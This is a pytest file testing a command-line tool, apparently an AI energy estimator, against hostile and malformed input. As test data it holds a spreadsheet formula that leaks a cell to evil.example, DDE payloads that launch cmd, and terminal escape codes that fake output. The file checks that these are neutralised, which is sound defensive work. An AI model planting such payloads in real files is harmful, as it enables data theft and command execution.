"""The command line under the reliability review's attacks (2026-12): every defect it found there, run as a
user would, in a subprocess with its own HOME. Each test names its defect number in the review.
"""

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
NODAC = [
    "setpriv",
    "--bounding-set=-dac_override,-dac_read_search",
    "--inh-caps=-dac_override,-dac_read_search",
]


def run(*args, tmp_path, env=None, main=ROOT / "main.py", timeout=120, stdin=None, prefix=()):
    base = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "QT_QPA_PLATFORM": "offscreen"}
    if env:
        base.update(env)
    base = {k: v for k, v in base.items() if v is not None}
    return subprocess.run(
        [*prefix, sys.executable, str(main), *args],
        capture_output=True,
        text=True,
        env=base,
        cwd=tmp_path,
        timeout=timeout,
        stdin=stdin,
    )


def one_line(p, code=2):
    assert p.returncode == code, (p.returncode, p.stdout, p.stderr)
    assert "Traceback" not in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1, p.stderr
    return p.stderr.strip()


# ----- 8, 9, 23: commands, displays and help ---------------------------------------------------------


@pytest.mark.parametrize(
    ("word", "message"),
    [
        ("estimte", "error: unknown command 'estimte' (did you mean 'estimate'?)"),
        ("Estimate", "error: unknown command 'Estimate' (did you mean 'estimate'?)"),
        ("preset", "error: unknown command 'preset' (did you mean 'presets'?)"),
        ("version", "error: unknown command 'version' (did you mean '--version'?)"),
        ("frobnicate", "error: unknown command 'frobnicate'; commands: window, estimate, report"),
        ("", "error: empty command or file name; commands: window, estimate"),
    ],
)
def test_a_mistyped_command_is_one_line_and_never_opens_a_window(tmp_path, word, message):
    # offscreen, a window would stay open until the timeout: the answer must come at once
    p = run(word, tmp_path=tmp_path, timeout=60)
    assert one_line(p).startswith(message)


def test_a_missing_scenario_file_is_one_line(tmp_path):
    p = run("nope.json", tmp_path=tmp_path, timeout=60)
    assert one_line(p) == "error: nope.json: no such file"


def test_help_lists_every_command_and_errors_are_one_line_for_every_command(tmp_path):
    for args in (["--help"], ["help"]):
        p = run(*args, tmp_path=tmp_path)
        assert p.returncode == 0
        for command in (
            "window",
            "estimate",
            "report",
            "presets",
            "catalog",
            "schema",
            "validate",
            "lesson",
            "bench",
        ):
            assert command in p.stdout, (args, command)
    assert "--save" in run("help", "estimate", tmp_path=tmp_path).stdout
    for args in (
        ["lesson", "--bogus"],
        ["bench", "--bogus"],
        ["lesson", "abc"],
        ["bench", "--soak", "abc"],
        ["--version", "junk"],
        ["estimate", "--bogus"],
    ):
        one_line(run(*args, tmp_path=tmp_path))
    assert "negative" in one_line(run("bench", "--soak", "-5", "--core-only", tmp_path=tmp_path))


def test_no_display_is_one_line_not_an_abort(tmp_path):
    p = run(tmp_path=tmp_path, env={"QT_QPA_PLATFORM": None, "DISPLAY": None, "WAYLAND_DISPLAY": None})
    assert one_line(p).startswith("error: no display found (DISPLAY is not set)")
    stale = run(tmp_path=tmp_path, env={"QT_QPA_PLATFORM": None, "DISPLAY": ":97"})
    assert "DISPLAY=:97 is not running" in one_line(stale)


@pytest.mark.parametrize("ext", [".pdf", ".svg"])
def test_reports_and_the_self_test_draw_offscreen_with_a_stale_display(tmp_path, ext):
    out = tmp_path / f"x{ext}"
    p = run(
        "report", "--output", str(out), tmp_path=tmp_path, env={"QT_QPA_PLATFORM": None, "DISPLAY": ":97"}
    )
    assert p.returncode == 0, p.stderr
    assert out.stat().st_size > 1000
    if ext == ".pdf":
        st = run(
            "--self-test", tmp_path=tmp_path, env={"QT_QPA_PLATFORM": None, "DISPLAY": ":97"}, timeout=300
        )
        assert st.returncode == 0, st.stderr


# ----- 10, 12, 21, 22: hostile input -------------------------------------------------------------------


def test_a_fifo_as_the_scenario_is_refused_at_once(tmp_path):
    fifo = tmp_path / "f.json"
    os.mkfifo(fifo)
    p = run("estimate", "--scenario", str(fifo), tmp_path=tmp_path, timeout=60)
    assert one_line(p) == f"error: {fifo}: is a FIFO (named pipe), not a regular file"


def test_tracebacks_of_the_review_are_one_line_now(tmp_path):
    v1 = tmp_path / "v1_kg_hugeint.json"
    v1.write_text('{"schema_version": 1, "datacenter": {"grid_kg_per_kwh": 1' + "0" * 400 + "}}")
    assert "datacenter.grid_kg_per_kwh is not a finite number" in one_line(
        run("estimate", "--scenario", str(v1), tmp_path=tmp_path)
    )
    st = run("--self-test", str(v1), tmp_path=tmp_path, timeout=300)
    assert st.returncode == 1 and "Traceback" not in st.stderr
    assert "self-test FAILED" in st.stdout and "grid_kg_per_kwh is not a finite number" in st.stdout
    deep = "[" * 1000 + "]" * 1000
    assert "nested too deeply" in one_line(
        run("estimate", "--set", f"datacenter.sites={deep}", tmp_path=tmp_path)
    )
    with open("/dev/full", "w") as full:
        p = subprocess.run(
            [sys.executable, str(ROOT / "main.py"), "estimate"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
            timeout=120,
        )
    assert p.returncode == 2 and p.stderr.strip() == "error: cannot write output (No space left on device)"


@pytest.mark.parametrize("args", [["lesson", "--list"], ["bench", "--core-only"], ["estimate"]])
def test_a_reader_that_goes_away_ends_the_command_quietly(tmp_path, args):
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "QT_QPA_PLATFORM": "offscreen"}
    p = subprocess.Popen(
        [sys.executable, str(ROOT / "main.py"), *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    p.stdout.read(5)  # what `| head -c 5` does
    p.stdout.close()
    err = p.stderr.read().decode()
    assert p.wait(timeout=120) == 0
    assert err == ""


def test_terminal_escape_codes_in_a_name_are_printed_escaped(tmp_path):
    f = tmp_path / "ansi.json"
    f.write_text(json.dumps({"name": "\u001b]0;pwned-title\u0007\u001b[2J\u001b[31mFAKE: all good\u001b[0m"}))
    p = run("estimate", "--scenario", str(f), tmp_path=tmp_path)
    assert p.returncode == 0
    assert "\x1b" not in p.stdout and "\x07" not in p.stdout
    assert p.stdout.splitlines()[0].startswith("Scenario: \\x1b]0;pwned-title\\x07\\x1b[2J")


def test_messages_name_the_field_and_booleans_are_not_numbers(tmp_path):
    for bad in ('"abc"', "[1, 2]", "{}", "true"):
        f = tmp_path / "v1.json"
        f.write_text('{"schema_version": 1, "datacenter": {"grid_kg_per_kwh": ' + bad + "}}")
        msg = one_line(run("estimate", "--scenario", str(f), tmp_path=tmp_path))
        assert "datacenter.grid_kg_per_kwh" in msg and "is not a number" in msg, msg
    msg = one_line(run("estimate", "--set", "datacenter.pue=true", tmp_path=tmp_path))
    assert "datacenter.pue" in msg and "true is not a number" in msg and "1 to 3 allowed" in msg, msg
    # --output is read once: the last one given, as argparse reads it
    p = run("report", "--output=a.txt", "--output", str(tmp_path / "b.csv"), tmp_path=tmp_path)
    assert p.returncode == 0 and (tmp_path / "b.csv").exists()


def test_empty_paths_are_refused(tmp_path):
    assert "--save: empty file name" in one_line(run("estimate", "--save", "", tmp_path=tmp_path))
    assert "--scenario: empty file name" in one_line(run("estimate", "--scenario", "", tmp_path=tmp_path))
    assert "--output: empty file name" in one_line(run("report", "--output", "", tmp_path=tmp_path))


# ----- 6, 13, 17, 18: writing --------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    f = tmp_path / "formula.json"
    f.write_text(
        json.dumps(
            {
                "name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
                "model": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
            }
        )
    )
    out = tmp_path / "r.csv"
    assert run("report", "--scenario", str(f), "--output", str(out), tmp_path=tmp_path).returncode == 0
    import csv

    cells = [c for row in csv.reader(out.open()) for c in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert risky == []
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_preset_and_profile_must_name_known_entries(tmp_path):
    """Both were free text, so a formula could hide in them (review defect 13): now they name catalog or
    user-defined entries, and anything else is one line naming the field."""
    for field, bad in (("preset", "+1+cmd|' /C calc'!A0"), ("profile", "-2+3+cmd|' /C notepad'!A0")):
        data = {"preset": bad} if field == "preset" else {"datacenter": {"profile": bad}}
        f = tmp_path / f"{field}.json"
        f.write_text(json.dumps(data))
        out = tmp_path / f"{field}.csv"
        p = run("report", "--scenario", str(f), "--output", str(out), tmp_path=tmp_path)
        assert p.returncode == 2 and not out.exists()
        msg = one_line(p)
        assert ("preset" if field == "preset" else "datacenter.profile") in msg and "is not a known" in msg, (
            msg
        )
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps({"preset": "llama31-70b", "datacenter": {"profile": "google_fleet_2023"}}))
    assert (
        run(
            "report", "--scenario", str(ok), "--output", str(tmp_path / "ok.csv"), tmp_path=tmp_path
        ).returncode
        == 0
    )


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_saving_refuses_read_only_files_and_devices_and_writes_through_symlinks(tmp_path):
    ro = tmp_path / "ro.json"
    assert run("estimate", "--set", "name=original", "--save", str(ro), tmp_path=tmp_path).returncode == 0
    ro.chmod(0o444)
    p = run("estimate", "--set", "name=OVERWRITTEN", "--save", str(ro), tmp_path=tmp_path)
    assert one_line(p) == f"error: {ro}: file is read-only"
    assert json.loads(ro.read_text())["name"] == "original"
    target, link = tmp_path / "target.json", tmp_path / "link.json"
    link.symlink_to(target.name)
    assert run("estimate", "--set", "name=through", "--save", str(link), tmp_path=tmp_path).returncode == 0
    assert link.is_symlink() and json.loads(target.read_text())["name"] == "through"
    if os.geteuid() == 0:
        node = tmp_path / "full"
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
        assert "is a device" in one_line(run("estimate", "--save", str(node), tmp_path=tmp_path))
        assert stat.S_ISCHR(node.stat().st_mode)


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv (util-linux) is not installed")
def test_saving_into_a_read_only_folder_as_a_user_without_override(tmp_path):
    """Root without CAP_DAC_OVERRIDE (setpriv), so file modes apply as for a normal user; this machine's
    shared virtual environment is not readable by 'nobody', so the child keeps uid 0 but loses the override."""
    if os.geteuid() != 0:
        pytest.skip("dropping the override needs root; as a normal user chmod applies anyway")
    ro_dir = tmp_path / "ro_dir"
    ro_dir.mkdir()
    ro_dir.chmod(0o555)
    p = run("estimate", "--save", str(ro_dir / "x.json"), tmp_path=tmp_path, prefix=NODAC)
    assert "cannot write file (Permission denied)" in one_line(p)
    p = run("report", "--output", str(ro_dir / "r.pdf"), tmp_path=tmp_path, prefix=NODAC)
    assert "Permission denied" in one_line(p)
    assert list(ro_dir.iterdir()) == []


def test_no_temporary_is_left_and_modes_follow_the_umask(tmp_path):
    folder = tmp_path / "isdir.csv"
    folder.mkdir()
    assert "is a directory" in one_line(run("report", "--output", str(folder), tmp_path=tmp_path))
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".aiee-")] == []
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    cmd = f"umask 022 && exec {sys.executable} {ROOT / 'main.py'}"
    subprocess.run(
        f"{cmd} estimate --save new.json", shell=True, check=True, cwd=tmp_path, env=env, capture_output=True
    )
    subprocess.run(
        f"{cmd} report --output r.csv", shell=True, check=True, cwd=tmp_path, env=env, capture_output=True
    )
    for name in ("new.json", "r.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644, name


# ----- 7, 24: every computing command checks the resources ----------------------------------------------


def _copy_app(tmp_path):
    dst = tmp_path / "app"
    shutil.copytree(
        ROOT,
        dst,
        ignore=shutil.ignore_patterns(".venv", ".git", "build", "dist", "__pycache__", "docs", "tests"),
    )
    return dst


def test_picture_reports_lessons_and_bench_refuse_a_tampered_table(tmp_path):
    app = _copy_app(tmp_path)
    grid = app / "resources" / "data" / "grid_intensity.csv"
    text = grid.read_text()
    assert ",383.55," in text
    grid.write_text(text.replace(",383.55,", ",3.55,", 1))
    for args in (
        ["report", "--output", "t.pdf"],
        ["report", "--output", "t.svg"],
        ["report", "--output", "t.png"],
        ["lesson", "3"],
        ["bench", "--core-only"],
    ):
        p = run(*args, tmp_path=tmp_path, main=app / "main.py")
        msg = one_line(p, code=1)
        assert msg.startswith("error: damaged installation: data/grid_intensity.csv"), (args, msg)
    assert not any(tmp_path.glob("t.*"))


def test_japanese_picture_reports_refuse_a_missing_translation(tmp_path):
    app = _copy_app(tmp_path)
    (app / "resources" / "i18n" / "aiee_ja.qm").unlink()
    for args in (["report", "--output", "q.pdf", "--lang", "ja"], ["lesson", "3", "--lang", "ja"]):
        msg = one_line(run(*args, tmp_path=tmp_path, main=app / "main.py"), code=1)
        assert "aiee_ja.qm: resource file is missing" in msg
    assert not (tmp_path / "q.pdf").exists()
